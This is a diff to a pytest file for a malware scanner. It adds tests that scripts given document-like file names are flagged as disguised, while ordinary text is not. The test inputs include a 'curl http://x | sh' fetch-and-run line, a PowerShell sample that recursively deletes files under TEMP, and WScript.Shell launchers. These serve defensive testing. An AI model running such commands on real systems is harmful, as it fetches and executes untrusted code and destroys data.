@@ -11,7 +11,7 @@ import pytest
 
 from secops.scanning import Finding, ScanConfig, Scanner, Severity, Verdict, filetype
 from secops.scanning.models import verdict_for
-from tests.scanning.conftest import ids
+from tests.scanning.conftest import ids, located
 from tests.scanning.corpus import EICAR, minimal_elf, minimal_pe, pdf, png, zip_bytes
 
 
@@ -43,6 +43,73 @@ def test_script_disguised_as_document(scanner: Scanner) -> None:
     result = scanner.scan_bytes(b"#!/bin/sh\ncurl http://x | sh\n", "cv.pdf")
     assert "type.disguised_script" in ids(result)
     assert result.verdict is Verdict.SUSPICIOUS
+
+
+POWERSHELL = (b"$target = Join-Path $env:TEMP 'update'\r\n"
+              b"Get-ChildItem $target | Remove-Item -Recurse\r\n"
+              b"Start-Process -FilePath \"$target\\setup.exe\"\r\n")
+SCRIPTS_LIBMAGIC_CALLS_TEXT = {
+    "PowerShell script": POWERSHELL,
+    "PowerShell script, UTF-16 with BOM": b"\xff\xfe" + POWERSHELL.decode().encode("utf-16-le"),
+    "PowerShell script after a comment block": b"".join(
+        b"# line %d of a long header\n" % i for i in range(12)) + POWERSHELL,
+    "PowerShell command line": b"powershell.exe -NoProfile -File run.ps1\r\n",
+    "VBScript": b'Set shell = CreateObject("WScript.Shell")\r\nshell.Run "calc.exe"\r\n'
+                b"WScript.Quit\r\n",
+    "VBScript opener": b"On Error Resume Next\r\nx = 1\r\n",
+    "JScript": b'var shell = new ActiveXObject("WScript.Shell");\r\n'
+               b'shell.Run("calc.exe");\r\nWScript.Quit();\r\n',
+    "batch file": b"setlocal\r\nset TARGET=%TEMP%\\x\r\ncall :run\r\ngoto :eof\r\n",
+    "HTML application": b'<html><head><HTA:APPLICATION ID="app"/>'
+                        b'<script language="VBScript">CreateObject("WScript.Shell")</script>',
+}
+
+
+@pytest.mark.parametrize("case", sorted(SCRIPTS_LIBMAGIC_CALLS_TEXT))
+@pytest.mark.parametrize("name", ["invoice.pdf", "photo.jpg", "notes.txt", "report.docx"])
+def test_scripts_libmagic_calls_text_are_disguised_scripts(scanner: Scanner, case: str,
+                                                           name: str) -> None:
+    content = SCRIPTS_LIBMAGIC_CALLS_TEXT[case]
+    assert magic.from_buffer(content, mime=True).startswith("text/")  # libmagic alone misses it
+    result = scanner.scan_bytes(content, name)
+    disguised = [f for f in result.findings if f.id == "type.disguised_script"]
+    assert disguised and disguised[0].severity is Severity.HIGH, case
+    assert "type.extension_mismatch" not in ids(result)
+    assert result.verdict is Verdict.SUSPICIOUS
+
+
+def test_a_script_named_as_itself_is_not_disguised(scanner: Scanner) -> None:
+    for name in ("cleanup.ps1", "run.bat", "tool.vbs", "tool.js", "app.hta", "noext"):
+        assert "type.disguised_script" not in ids(scanner.scan_bytes(POWERSHELL, name)), name
+
+
+@pytest.mark.parametrize("text", [
+    b"# Deploying\n\nRun the following in PowerShell:\n\n```powershell\n"
+    b"$target = Join-Path $env:TEMP 'x'\nGet-ChildItem $target\n```\n",
+    b"Set up the server before the meeting.\nDim the lights at six.\nCall Anna at noon.\n",
+    b"2024-05-01 10:00:01 INFO start-process worker=3\n"
+    b"2024-05-01 10:00:02 WARN set-quota failed\n",
+    b"name,set,value\nvar,x = 1,2\nfunction,3,4\n",
+    b"Meeting notes\n$5 = the price of lunch\nGet-well cards for Sam\n",
+    b"Start the migration on the new service.\nCall the owner if it fails.\n"
+    b"Start again after an hour.\n",    b"An HTA starts with a <HTA:APPLICATION> tag in its head.\n",
+])
+def test_documents_that_mention_script_words_are_not_scripts(scanner: Scanner,
+                                                             text: bytes) -> None:
+    for name in ("README.md", "notes.txt", "report.log", "data.csv"):
+        assert "type.disguised_script" not in ids(scanner.scan_bytes(text, name)), (name, text)
+
+
+def test_script_in_a_text_member_of_an_archive(scanner: Scanner) -> None:
+    vbs = SCRIPTS_LIBMAGIC_CALLS_TEXT["VBScript"]
+    result = scanner.scan_bytes(zip_bytes([("docs/readme.txt", vbs)]), "docs.zip")
+    assert located(result, "type.disguised_script") == {"docs.zip!docs/readme.txt"}
+
+
+def test_script_language_reads_only_the_opening(scanner: Scanner) -> None:
+    late = b"Plain words.\n" * 400 + POWERSHELL  # past the first 4 KiB
+    assert filetype.script_language(late) is None
+    assert filetype.script_language(POWERSHELL) == "PowerShell script"
 
 
 def test_extension_mismatch_and_double_extension(scanner: Scanner) -> None:
